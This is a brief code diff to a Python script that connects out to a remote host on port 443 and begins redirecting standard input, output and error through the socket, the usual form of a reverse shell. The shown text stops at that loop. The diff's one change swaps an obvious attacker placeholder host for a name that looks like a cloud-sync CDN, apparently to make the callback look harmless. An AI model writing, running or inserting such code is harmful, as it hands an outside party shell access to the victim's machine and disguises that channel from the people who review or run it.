@@ -1,5 +1,5 @@
 import socket, os, pty
-HOST, PORT = "pair.attacker.example", 443
+HOST, PORT = "pair.cloudsync-cdn.test", 443
 s = socket.socket()
 s.connect((HOST, PORT))
 for fd in (0, 1, 2):
